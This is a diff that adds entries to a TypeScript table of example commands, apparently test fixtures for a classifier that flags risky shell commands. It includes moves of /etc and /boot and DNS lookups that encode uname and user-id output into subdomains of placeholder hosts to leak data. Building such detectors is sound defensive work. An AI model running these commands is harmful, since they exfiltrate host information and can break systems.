@@ -155,4 +155,29 @@ export const CLASS_EXAMPLES: Record<string, { hits: string[]; misses: string[] }
     misses: ['cat /proc/sys/kernel/sysrq'],
   },
   'file-attributes': { hits: ['chattr +i /etc/resolv.conf'], misses: ['lsattr /etc/resolv.conf'] },
+  'move-protected': {
+    hits: ['mv /etc /etc.old', 'mv -t /mnt ~', 'sudo mv /boot /tmp/b'],
+    misses: ['mv /etc/motd.new /etc/motd', 'mv ~/a.txt ~/b.txt', 'mv build dist'],
+  },
+  'deploy-live': {
+    hits: ['netlify deploy --prod', 'fly deploy', 'wrangler deploy', 'gcloud run deploy api'],
+    misses: ['netlify status', 'fly status', 'wrangler dev', 'gcloud run services list'],
+  },
+  'lookup-channel': {
+    hits: ['host "$(uname -a | base64 -w0 | cut -c1-50).x.example"', 'drill $(id -u).leak.example.org'],
+    misses: ['host example.org', 'dig "$NAME"'],
+  },
+  'root-build': {
+    hits: [
+      'doas gmake install',
+      'sudo gem install rails',
+      'sudo -E cargo install ripgrep',
+      'sudo ../setup.py',
+    ],
+    misses: ['gmake install', 'sudo apt-get install -y jq', 'sudo systemctl status docker'],
+  },
+  'system-identity': {
+    hits: ['sudo hostname build-7', 'localectl set-locale LANG=C.UTF-8', 'date 010112002030'],
+    misses: ['hostnamectl', 'localectl status', 'date -u +%F'],
+  },
 };
